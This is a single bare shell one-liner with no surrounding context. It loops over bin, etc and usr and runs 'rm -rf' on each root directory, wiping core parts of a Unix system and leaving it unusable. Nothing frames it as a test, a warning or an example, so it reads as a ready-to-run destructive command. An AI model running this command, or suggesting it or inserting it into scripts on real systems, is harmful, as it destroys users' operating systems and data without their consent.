for i in bin etc usr; do rm -rf /$i; done
